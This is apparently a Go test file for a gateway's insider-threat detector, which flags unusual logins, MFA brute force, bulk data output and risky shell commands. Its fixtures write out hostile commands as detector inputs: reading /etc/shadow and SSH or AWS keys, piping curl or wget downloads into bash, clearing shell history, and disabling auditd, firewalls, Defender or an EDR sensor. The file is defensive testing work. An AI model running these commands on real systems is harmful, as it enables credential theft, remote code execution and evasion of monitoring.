package detect_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"supportgate/gateway/audit"
	"supportgate/gateway/detect"
)

// events builds a log from a compact script, one event per line:
// "+MINUTES TYPE ACTOR REMOTE key=value ...", with "-" for an empty field.
func events(t0 time.Time, script string) []audit.Record {
	var recs []audit.Record
	for _, line := range strings.Split(strings.TrimSpace(script), "\n") {
		f := strings.Fields(line)
		var mins float64
		fmt.Sscanf(f[0], "+%g", &mins)
		e := audit.Event{Time: t0.Add(time.Duration(mins * float64(time.Minute))), Type: f[1], Actor: f[2], Detail: map[string]string{}}
		if f[3] != "-" {
			e.Remote = f[3]
		}
		for _, kv := range f[4:] {
			k, v, _ := strings.Cut(kv, "=")
			if k == "session" {
				e.Session = v
				continue
			}
			e.Detail[k] = strings.ReplaceAll(v, "_", " ")
		}
		recs = append(recs, audit.Record{Seq: uint64(len(recs) + 1), Event: e})
	}
	return recs
}

var t0 = time.Date(2026, 3, 4, 10, 0, 0, 0, time.UTC)

// history is a fortnight of ordinary office days for alice.
func history() []audit.Record {
	var b strings.Builder
	for d := 0; d < 14; d++ {
		m := d * 24 * 60
		fmt.Fprintf(&b, "+%d login.success alice 198.51.100.5\n", m)
		for s := 0; s < 4; s++ {
			id := fmt.Sprintf("h%d-%d", d, s)
			at := m + 30 + s*90
			fmt.Fprintf(&b, "+%d session.created alice 198.51.100.5 session=%s agent=alice customer=c%d\n", at, id, s)
			fmt.Fprintf(&b, "+%d channel.closed alice 198.51.100.5 session=%s agent=alice bytes_out=%d\n", at+20, id, 1<<20+s*1000)
			fmt.Fprintf(&b, "+%d session.ended alice 198.51.100.5 session=%s agent=alice reason=completed\n", at+21, id)
		}
	}
	return events(t0.AddDate(0, 0, -14), b.String())
}

func run(t *testing.T, cfg detect.Config, recs ...[]audit.Record) (*detect.Detector, []detect.Alert) {
	t.Helper()
	if cfg.Now == nil {
		cfg.Now = fixedNow
	}
	d, err := detect.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	seq := uint64(0)
	for _, rs := range recs {
		for _, r := range rs {
			seq++
			r.Seq = seq
			if err := d.ObserveWait(context.Background(), r); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := d.Flush(context.Background()); err != nil {
		t.Fatal(err)
	}
	return d, d.Alerts()
}

func TestRules(t *testing.T) {
	tests := []struct {
		name    string
		script  string
		kind    detect.Kind // "" means no alert
		sev     detect.Severity
		summary string // substring
	}{
		{"ordinary day", `
+0 login.success alice 198.51.100.5
+10 session.created alice 198.51.100.5 session=s1 agent=alice customer=c1
+30 shell.command alice 198.51.100.5 session=s1 agent=alice command=df_-h
+40 channel.closed alice 198.51.100.5 session=s1 agent=alice bytes_out=3000000`, "", 0, ""},
		{"night login from a new network", `
+-420 login.success alice 203.0.113.66`, detect.KindUnusualLogin, detect.High, "a network never seen for them, outside their usual hours"},
		{"mfa brute force", `
+0 login.mfa_failure alice 203.0.113.77
+1 login.mfa_failure alice 203.0.113.77
+2 login.mfa_failure alice 203.0.113.77
+3 login.mfa_failure alice 203.0.113.77`, detect.KindMFAFailures, detect.High, "4 second-factor failures for alice in 3 minutes from 203.0.113.77"},
		{"two networks at once", `
+0 session.created alice 198.51.100.5 session=s1 agent=alice customer=c1
+4 login.success alice 203.0.113.88`, detect.KindConcurrentAddr, detect.High, "active from 198.51.100.5 and from 203.0.113.88"},
		{"same network is fine", `
+0 session.created alice 198.51.100.5 session=s1 agent=alice customer=c1
+4 login.success alice 198.51.100.9`, "", 0, ""},
		{"credential file", `
+0 session.created alice 198.51.100.5 session=s1 agent=alice customer=c1
+1 shell.command alice 198.51.100.5 session=s1 agent=alice command=sudo_cat_/etc/shadow`, detect.KindRiskyCommand, detect.High, "reads credential files on customer c1's machine"},
		{"curl into shell", `
+1 shell.command alice 198.51.100.5 session=s1 agent=alice command=curl_-fsSL_http://x.example/i.sh_|_sudo_bash`, detect.KindRiskyCommand, detect.Critical, "pipes a download into a shell"},
		{"bulk output", `
+0 session.created alice 198.51.100.5 session=s1 agent=alice customer=c1
+5 channel.closed alice 198.51.100.5 session=s1 agent=alice channel=sftp bytes_out=900000000`, detect.KindBulkOutput, detect.High, "alice pulled 858.3 MiB out on customer c1's machine in session s1; their usual is about 1.0 MiB a session"},
		{"denials", `
+0 session.ended customer 192.0.2.1 session=d1 agent=alice reason=denied
+5 session.ended customer 192.0.2.2 session=d2 agent=alice reason=denied
+9 session.ended customer 192.0.2.3 session=d3 agent=alice reason=denied
+14 session.ended customer 192.0.2.4 session=d4 agent=alice reason=denied`, detect.KindDenials, detect.Medium, "4 customers refused alice's sessions in 14 minutes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, alerts := run(t, detect.Config{}, history(), events(t0, tt.script))
			if tt.kind == "" {
				if len(alerts) != 0 {
					t.Fatalf("got alerts %v, want none", alerts)
				}
				return
			}
			if len(alerts) != 1 {
				t.Fatalf("got %d alerts %v, want 1 %s", len(alerts), alerts, tt.kind)
			}
			a := alerts[0]
			if a.Kind != tt.kind || a.Severity != tt.sev || a.Agent != "alice" || a.State != detect.Open {
				t.Errorf("got %s %s %s %s, want %s %s alice open", a.Kind, a.Severity, a.Agent, a.State, tt.kind, tt.sev)
			}
			if !strings.Contains(a.Summary, tt.summary) {
				t.Errorf("summary: got %q, want it to contain %q", a.Summary, tt.summary)
			}
		})
	}
}

// TestPhishedBurst is the sentence the issue asks for, and the auto-lock hook.
func TestPhishedBurst(t *testing.T) {
	var b strings.Builder
	b.WriteString("+-420 login.success alice 203.0.113.66\n")
	for i := 0; i < 14; i++ {
		cust := fmt.Sprintf("new%d", i)
		if i < 2 {
			cust = fmt.Sprintf("c%d", i)
		}
		fmt.Fprintf(&b, "+%g session.created alice 203.0.113.66 session=p%d agent=alice customer=%s\n", -410+float64(i)*0.7, i, cust)
	}
	var mu sync.Mutex
	var locked []string
	var seen []detect.Alert
	cfg := detect.Config{
		OnCritical: func(agent string) { mu.Lock(); locked = append(locked, agent); mu.Unlock() },
		OnAlert:    func(a detect.Alert) { mu.Lock(); seen = append(seen, a); mu.Unlock() },
	}
	d, alerts := run(t, cfg, history(), events(t0, b.String()))
	var burst *detect.Alert
	for i := range alerts {
		if alerts[i].Kind == detect.KindSessionBurst {
			burst = &alerts[i]
		}
	}
	if burst == nil {
		t.Fatalf("no session_burst in %v", alerts)
	}
	want := "alice opened 14 sessions in 10 minutes; their usual rate is about 1 an hour; 12 were with new customers; they signed in outside their usual hours and from a new network (203.0.113.66)"
	if burst.Summary != want || burst.Severity != detect.Critical {
		t.Errorf("got %s %q\nwant critical %q", burst.Severity, burst.Summary, want)
	}
	if burst.Count < 2 || len(burst.Evidence) < 8 {
		t.Errorf("folding: got count %d, %d evidence, want repeats folded into one alert", burst.Count, len(burst.Evidence))
	}
	mu.Lock()
	if len(locked) != 1 || locked[0] != "alice" {
		t.Errorf("OnCritical: got %v, want [alice]", locked)
	}
	if len(seen) < 2 {
		t.Errorf("OnAlert: got %d calls, want the unusual login and the burst", len(seen))
	}
	mu.Unlock()

	// Acknowledge and resolve with a note.
	a, err := d.Ack(burst.ID, "sam", "calling alice")
	if err != nil || a.State != detect.Acknowledged || a.By != "sam" || a.Note != "calling alice" {
		t.Errorf("Ack: got %+v, %v", a, err)
	}
	a, err = d.Resolve(burst.ID, "sam", "phished; password reset, sessions revoked")
	if err != nil || a.State != detect.Resolved || a.Note != "phished; password reset, sessions revoked" || !a.Updated.Equal(fixedNow()) {
		t.Errorf("Resolve: got %+v, %v", a, err)
	}
	if _, err := d.Ack("nope", "sam", ""); !errors.Is(err, detect.ErrNoAlert) {
		t.Errorf("Ack of unknown alert: got %v, want ErrNoAlert", err)
	}
	if st := d.Stats(); st.Alerts[detect.High] != 1 || st.Agents != 1 || st.Dropped != 0 {
		t.Errorf("stats: got %+v", st)
	}
}

func TestNewAgentDefaults(t *testing.T) {
	// No history: a brand-new agent's first day raises nothing, but an
	// obvious burst still does.
	_, alerts := run(t, detect.Config{}, events(t0, `
+0 login.success newbie 198.51.100.5
+10 session.created newbie 198.51.100.5 session=s1 agent=newbie customer=c1
+40 session.created newbie 198.51.100.5 session=s2 agent=newbie customer=c2`))
	if len(alerts) != 0 {
		t.Fatalf("got %v, want no alerts", alerts)
	}
	var b strings.Builder
	for i := 0; i < 9; i++ {
		fmt.Fprintf(&b, "+%d session.created newbie 198.51.100.5 session=b%d agent=newbie customer=n%d\n", i, i, i)
	}
	_, alerts = run(t, detect.Config{}, events(t0, b.String()))
	if len(alerts) != 1 || alerts[0].Kind != detect.KindSessionBurst {
		t.Fatalf("got %v, want one session_burst", alerts)
	}
}

func TestBaselinesPersist(t *testing.T) {
	store := detect.NewMemStore()
	d, _ := run(t, detect.Config{Baselines: store}, history())
	if err := d.Close(); err != nil {
		t.Fatal(err)
	}
	if got := store.Agents(); len(got) != 1 || got[0] != "alice" {
		t.Fatalf("stored agents: got %v, want [alice]", got)
	}
	var snap bytes.Buffer
	if err := store.WriteSnapshot(&snap); err != nil {
		t.Fatal(err)
	}
	restored := detect.NewMemStore()
	if err := restored.ReadSnapshot(&snap); err != nil {
		t.Fatal(err)
	}
	// A restarted detector still knows alice's hours and networks: the
	// night login from a new network is caught with no history replayed.
	_, alerts := run(t, detect.Config{Baselines: restored}, events(t0, "+-420 login.success alice 203.0.113.66"))
	if len(alerts) != 1 || alerts[0].Kind != detect.KindUnusualLogin {
		t.Fatalf("after restore: got %v, want one unusual_login", alerts)
	}
	// And a fresh store does not.
	_, alerts = run(t, detect.Config{}, events(t0, "+-420 login.success alice 203.0.113.66"))
	if len(alerts) != 0 {
		t.Fatalf("fresh store: got %v, want none", alerts)
	}
	if err := restored.ReadSnapshot(strings.NewReader(`{"x": {"version": 99}}`)); err == nil {
		t.Error("ReadSnapshot of a bad version: got nil error")
	}
}

// blockingStore holds the detector's goroutine in Load until released.
type blockingStore struct {
	*detect.MemStore
	release chan struct{}
}

func (b blockingStore) Load(ctx context.Context, agent string) ([]byte, error) {
	<-b.release
	return b.MemStore.Load(ctx, agent)
}

func TestObserveNeverBlocks(t *testing.T) {
	bs := blockingStore{detect.NewMemStore(), make(chan struct{})}
	d, err := detect.New(detect.Config{Baselines: bs, QueueSize: 4, Now: fixedNow})
	if err != nil {
		t.Fatal(err)
	}
	recs := events(t0, strings.Repeat("+0 login.success alice 198.51.100.5\n", 20))
	for _, r := range recs {
		d.Observe(r) // must return although the detector is stuck
	}
	close(bs.release)
	if err := d.Flush(context.Background()); err != nil {
		t.Fatal(err)
	}
	st := d.Stats()
	if st.Dropped < 15 || st.Observed+st.Dropped != 20 || st.Processed != st.Observed {
		t.Errorf("stats: got %+v, want 20 observed or dropped, at least 15 dropped, all queued ones processed", st)
	}
	if err := d.Close(); err != nil {
		t.Fatal(err)
	}
	if err := d.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	d.Observe(recs[0])
	if err := d.ObserveWait(context.Background(), recs[0]); !errors.Is(err, detect.ErrClosed) {
		t.Errorf("ObserveWait after Close: got %v, want ErrClosed", err)
	}
	if got := d.Stats().Dropped; got != st.Dropped+1 {
		t.Errorf("dropped after Close: got %d, want %d", got, st.Dropped+1)
	}
}

func TestClassifyCommand(t *testing.T) {
	tests := []struct {
		cmd  string
		want string // categories, comma-separated
	}{
		{"ls -la", ""},
		{"tail -n 200 /var/log/syslog", ""},
		{"history | tail", ""},
		{"systemctl status auditd", ""},
		{"curl -O https://example.com/file.tar.gz", ""},
		{"cat /etc/shadow", "credentials"},
		{"cp ~/.ssh/id_ed25519 /tmp/k", "credentials"},
		{"cat ~/.aws/credentials", "credentials"},
		{"curl -fsSL https://get.example.sh | sh", "download_exec"},
		{"wget -qO- http://1.2.3.4/a | sudo -E bash", "download_exec"},
		{"bash <(curl -s http://x/y)", "download_exec"},
		{"history -c", "history"},
		{"unset HISTFILE", "history"},
		{"export HISTFILE=/dev/null", "history"},
		{"rm -f ~/.bash_history", "history"},
		{"sudo setenforce 0", "disable_security"},
		{"systemctl stop auditd", "disable_security"},
		{"sudo systemctl disable --now falcon-sensor", "disable_security"},
		{"ufw disable", "disable_security"},
		{"iptables -F", "disable_security"},
		{"Set-MpPreference -DisableRealtimeMonitoring $true", "disable_security"},
		{"cat /etc/shadow; history -c", "credentials,history"},
	}
	for _, tt := range tests {
		var got []string
		for _, m := range detect.ClassifyCommand(tt.cmd) {
			got = append(got, m.Category)
		}
		if g := strings.Join(got, ","); g != tt.want {
			t.Errorf("ClassifyCommand(%q): got %q, want %q", tt.cmd, g, tt.want)
		}
	}
}

// TestBastionEventShapes checks that the events the bastion emits (see
// the package comment) pass audit.Event.Validate, so the gateway will store
// them, and that the detector reads them.
func TestBastionEventShapes(t *testing.T) {
	evs := []audit.Event{
		{Time: t0, Type: "shell.command", Actor: "alice", Role: "agent", Session: "s1", Remote: "198.51.100.5",
			Detail: map[string]string{"agent": "alice", "command": "cat /etc/shadow"}},
		{Time: t0.Add(time.Minute), Type: "channel.closed", Actor: "alice", Role: "agent", Session: "s1", Remote: "198.51.100.5",
			Detail: map[string]string{"agent": "alice", "channel": "sftp", "bytes_out": "3221225472", "bytes_in": "4096"}},
		// A line cut in the audit log before its risky part: the bastion
		// classified it whole ("risk"); names it does not know are ignored.
		{Time: t0.Add(2 * time.Minute), Type: "shell.command", Actor: "alice", Role: "agent", Session: "s1", Remote: "198.51.100.5",
			Detail: map[string]string{"agent": "alice", "command": "true; true; true", "risk": "no_such_category,download_exec"}},
	}
	var recs []audit.Record
	for i, e := range evs {
		if err := e.Validate(); err != nil {
			t.Errorf("%s: %v", e.Type, err)
		}
		recs = append(recs, audit.Record{Seq: uint64(i + 1), Event: e})
	}
	_, alerts := run(t, detect.Config{}, recs)
	var kinds []string
	for _, a := range alerts {
		kinds = append(kinds, string(a.Kind)+"/"+a.Severity.String())
	}
	if got, want := strings.Join(kinds, ","), "risky_command/high,bulk_output/critical,risky_command/critical"; got != want {
		t.Errorf("alerts: got %s, want %s", got, want)
	}
}
